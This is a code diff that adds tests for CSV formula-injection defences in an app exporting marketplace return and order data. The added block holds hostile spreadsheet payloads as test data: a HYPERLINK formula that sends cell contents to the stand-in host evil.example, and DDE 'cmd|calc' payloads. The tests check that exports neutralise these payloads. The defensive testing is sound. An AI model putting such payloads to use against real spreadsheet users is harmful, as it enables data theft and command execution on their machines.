@@ -73,6 +73,38 @@ describe('CSV', () => {
   });
 });
 
+describe('formula injection (OWASP CSV injection)', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Открыть")';
+  const hostile = [HYPERLINK, "+cmd|' /C calc'!A0", '-2+3+cmd|calc', '@SUM(1+1)*cmd|calc', '\t=1+1', '\r=1+1'];
+  const dangerous = /^[=+\-@\t\r]/;
+
+  it('a cell starting with = + - @ tab or CR gets a leading apostrophe; numbers stay numbers', () => {
+    const text = toCsv(['value', 'number'], [...hostile.map((h) => [h, -5]), ['plain', 1.5]]);
+    const rows = parseCsv(text).slice(1);
+    expect(rows.map((r) => r[0])).toEqual([...hostile.map((h) => `'${h}`), 'plain']);
+    expect(rows.map((r) => r[1])).toEqual([...hostile.map(() => '-5'), '1.5']);
+  });
+
+  it('no export carries a live formula: store, offer, operator names and server answers', async () => {
+    // Names that come from the Market or from the operator, made hostile.
+    store.db.prepare('UPDATE campaigns SET domain = ?, business_name = ?').run(HYPERLINK, hostile[1]!);
+    store.db.prepare('UPDATE order_items SET offer_name = ?').run(hostile[3]!);
+    store.db.prepare('UPDATE orders SET raw_json = replace(raw_json, ?, ?)').run('Чайник «Заря»', hostile[3]!);
+    store.db.prepare('UPDATE return_items SET shop_sku = ? WHERE shop_sku = ?').run(hostile[2]!, 'SKU-B');
+    store.db.prepare('UPDATE decision_audit SET operator = ?, server_answer = ?').run(hostile[4]!, hostile[5]!);
+    const query = { from: '2025-03-01', to: '2025-03-07' };
+    const files = [
+      (await call('exports.inbox', { filter: {} })).path,
+      (await call('exports.audit', {})).path,
+      ...(await Promise.all((['timeline', 'reasons', 'topSkus', 'decisionMix', 'timeToDecision', 'deadlines', 'stores', 'money'] as const).map(async (table) => (await call('exports.analytics', { query, table })).path))),
+    ];
+    const cells = files.flatMap((file) => reread(file).rows.flat());
+    expect(cells.filter((cell) => dangerous.test(cell))).toEqual([]);
+    // The hostile texts are there, as text: nothing was dropped.
+    for (const h of [HYPERLINK, hostile[2]!, hostile[3]!, hostile[4]!, hostile[5]!]) expect(cells, h).toContain(`'${h}`);
+  });
+});
+
 describe('exports', () => {
   it('the inbox under the current filter', async () => {
     const result = await call('exports.inbox', { filter: { campaignIds: [101], returnType: 'RETURN' } });
